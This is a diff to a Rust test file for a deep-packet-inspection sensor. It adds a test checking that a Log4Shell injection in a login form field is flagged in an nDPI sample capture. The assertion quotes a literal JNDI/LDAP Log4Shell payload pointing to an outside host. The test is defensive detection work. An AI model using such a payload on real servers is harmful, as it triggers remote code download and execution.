@@ -239,8 +239,8 @@ fn detect_names_starttls_in_smtp_sessions() {
 }
 
 /// `dpi inspect --capture`: the connections of a capture replayed through the proxy's
-/// sessions with the sensor attached. nDPI's captures of DVWA attacks give their
-/// injections with the request each came in; benign HTTP, HTTP/2, gRPC, MySQL and
+/// sessions with the sensor attached. nDPI's captures of DVWA attacks and of Log4Shell
+/// give their injections with the request each came in; benign HTTP, HTTP/2, gRPC, MySQL and
 /// PostgreSQL captures give nothing; a table says the same as the JSON.
 #[test]
 fn inspect_finds_attacks_in_the_connections_of_a_capture() {
@@ -272,6 +272,11 @@ fn inspect_finds_attacks_in_the_connections_of_a_capture() {
             .starts_with("http GET /DVWA-master/vulnerabilities/xss_d/?default="),
         "{xss:?}"
     );
+    // Log4Shell in a login form (nDPI's log4j-webapp-exploit.pcap).
+    let log4j = hits("cmdi", "ndpi/log4j-webapp-exploit.pcap");
+    assert_eq!(log4j.len(), 1, "{log4j:?}");
+    assert_eq!(log4j[0]["location"], "body:form:uname");
+    assert_eq!(log4j[0]["masked"], "${jndi:ldap://172.16.238.11:1389/a}");
     let sqli = hits("sqli", "ndpi/WebattackSQLinj.pcap");
     assert!(sqli.len() >= 7, "{sqli:?}");
     assert!(sqli.iter().all(|h| h["class"] == "sqli"));
